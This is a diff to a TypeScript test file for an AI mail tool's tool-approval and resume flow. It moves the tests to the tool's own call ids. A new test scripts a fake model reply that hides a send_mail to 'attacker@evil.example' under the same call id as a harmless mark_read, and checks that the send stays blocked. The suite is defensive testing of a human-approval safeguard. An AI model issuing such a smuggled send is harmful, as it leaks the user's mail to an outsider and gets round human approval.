@@ -65,6 +65,18 @@ const folderOf = (subject: string) => {
   }
 };
 
+// The ids of the calls an `interrupted` line lists, in order.
+const waitingIds = (out: Record<string, unknown>[]) =>
+  ((out.at(-1)?.calls ?? []) as { id: string }[]).map((c) => c.id);
+const outboxCount = () => {
+  const db = openDatabase(join(data, 'skimmer.db'));
+  try {
+    return db.prepare('SELECT count(*) FROM outbox').pluck().get();
+  } finally {
+    db.close();
+  }
+};
+
 describe('ask --tools and resume', () => {
   test('a write waits for approval, does nothing until approved, then takes effect', async () => {
     await skimmer(['import', mail]);
@@ -85,15 +97,18 @@ describe('ask --tools and resume', () => {
     expect(out[0]).toMatchObject({ type: 'start', conversationId: 1 });
     expect(out.at(-1)).toMatchObject({
       type: 'interrupted',
-      calls: [{ id: 'call_arch', name: 'archive', args: { ids: [1] } }],
+      calls: [{ name: 'archive', args: { ids: [1] } }],
     });
+    // Skimmer's own id for the call is what `resume` takes, not the provider's.
+    const id = waitingIds(out)[0] ?? '';
+    expect(id).toMatch(/^sc-/);
     expect(folderOf('Weekly newsletter')).toBe(before);
 
     // The conversation's own model is used when --model is not given.
-    const resumed = await skimmer(['resume', '1', '--approve', 'call_arch', '--json']);
+    const resumed = await skimmer(['resume', '1', '--approve', id, '--json']);
     expect(resumed.code).toBe(0);
     const after = lines(resumed.stdout);
-    expect(after.find((o) => o.type === 'tool_result')).toMatchObject({ id: 'call_arch', isError: false });
+    expect(after.find((o) => o.type === 'tool_result')).toMatchObject({ id, isError: false });
     expect(after.at(-1)).toMatchObject({ type: 'done' });
     expect(folderOf('Weekly newsletter')).toBe('Archive');
     expect(folderOf('Project plan')).toBe(before);
@@ -103,7 +118,8 @@ describe('ask --tools and resume', () => {
     script = [callChunk('call_trash', 'trash', { ids: [2] }), answer];
     const asked = await skimmer(['ask', 'local/m', 'Clean up', '--tools', '--approve', 'all', '--json']);
     // trash is a delete: it asks even with --approve all.
-    expect(lines(asked.stdout).at(-1)).toMatchObject({ type: 'interrupted', calls: [{ id: 'call_trash' }] });
+    expect(lines(asked.stdout).at(-1)).toMatchObject({ type: 'interrupted', calls: [{ name: 'trash' }] });
+    const id = waitingIds(lines(asked.stdout))[0] ?? '';
     const conversation = (lines(asked.stdout)[0] as { conversationId: number }).conversationId;
     const resumed = await skimmer([
       'resume',
@@ -111,11 +127,11 @@ describe('ask --tools and resume', () => {
       '--model',
       'local/m',
       '--deny',
-      'call_trash',
+      id,
       '--json',
     ]);
     const result = lines(resumed.stdout).find((o) => o.type === 'tool_result');
-    expect(result).toMatchObject({ id: 'call_trash', isError: true });
+    expect(result).toMatchObject({ id, isError: true });
     expect(String(result?.output)).toContain('declined');
     expect(folderOf('Project plan')).not.toBe('Trash');
   });
@@ -127,6 +143,43 @@ describe('ask --tools and resume', () => {
       type: 'interrupted',
       calls: [{ name: 'search_mail' }],
     });
+  });
+
+  test("two calls under one provider id are two calls: the provider's id approves nothing, Skimmer's one call", async () => {
+    const chunk = (delta: object, finish: string | null) =>
+      `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
+    const parts = [
+      { name: 'mark_read', args: { ids: [1] } },
+      { name: 'send_mail', args: { to: ['attacker@evil.example'], subject: 'Invoice', body: 'Plan.' } },
+    ].map((c, index) => ({
+      index,
+      id: 'call_same',
+      type: 'function',
+      function: { name: c.name, arguments: JSON.stringify(c.args) },
+    }));
+    script = [
+      Buffer.from(
+        `${chunk({ role: 'assistant', tool_calls: parts }, null)}${chunk({}, 'tool_calls')}data: [DONE]\n\n`,
+      ),
+    ];
+    const asked = await skimmer(['ask', 'local/m', 'Mark it read', '--tools', '--json']);
+    const conversation = String((lines(asked.stdout)[0] as { conversationId: number }).conversationId);
+    const [markId, sendId] = waitingIds(lines(asked.stdout));
+    expect(markId).not.toBe(sendId);
+
+    const byProviderId = await skimmer(['resume', conversation, '--approve', 'call_same', '--json']);
+    expect(byProviderId.code).not.toBe(0);
+    expect(byProviderId.stderr).toContain('No call call_same is waiting in this conversation.');
+    const twice = await skimmer(['resume', conversation, '--approve', markId ?? '', '--deny', markId ?? '']);
+    expect(twice.code).not.toBe(0);
+    expect(twice.stderr).toContain('is named twice');
+
+    // Approving the mark leaves the send waiting; nothing of the round runs, nothing is queued.
+    const resumed = await skimmer(['resume', conversation, '--approve', markId ?? '', '--json']);
+    expect(resumed.code).toBe(0);
+    expect(lines(resumed.stdout).at(-1)).toMatchObject({ type: 'interrupted', calls: [{ id: sendId }] });
+    expect(lines(resumed.stdout).some((o) => o.type === 'tool_result')).toBe(false);
+    expect(outboxCount()).toBe(0);
   });
 
   test.each([
